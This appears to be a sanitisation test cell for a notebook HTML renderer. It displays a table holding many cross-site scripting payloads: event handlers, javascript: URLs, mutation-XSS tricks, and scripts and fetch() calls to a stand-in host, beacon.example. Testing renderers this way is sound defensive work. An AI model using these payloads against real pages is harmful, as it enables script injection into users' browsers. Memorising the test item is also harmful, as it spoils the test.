# tries: to run scripts in its reader's browser by an HTML table: elements, handlers, addresses, templates
# must: show the table, run nothing of it, and load nothing from anywhere
# score: 10
from IPython.display import HTML, display

CALL = "fetch('http://beacon.example/html');top.owned=self.owned=1;alert(1)"
display(
    HTML(f"""
<table onclick="{CALL}"><tr><td>3</td></tr></table>
<script>{CALL}</script><script src="http://beacon.example/script.js"></script><SCRIPT/SRC=//beacon.example/x></SCRIPT>
<img src=x onerror="{CALL}"><img src="http://beacon.example/image.png" srcset="//beacon.example/2x 2x">
<video autoplay poster="http://beacon.example/p" onloadstart="{CALL}"><source src="http://beacon.example/v"></video>
<body onload="{CALL}"><details open ontoggle="{CALL}">x</details><input autofocus onfocus="{CALL}">
<a href="javascript:{CALL}" autofocus>x</a><a href="jav&#x09;ascript:{CALL}">x</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror={CALL}>"></noscript><template><script>{CALL}</script></template>
<script type="module">{CALL}</script><link rel="modulepreload" href="http://beacon.example/m.js">
"""),
    metadata={"text/html": {"isolated": True}},
)


def add(a, b):
    return a + b
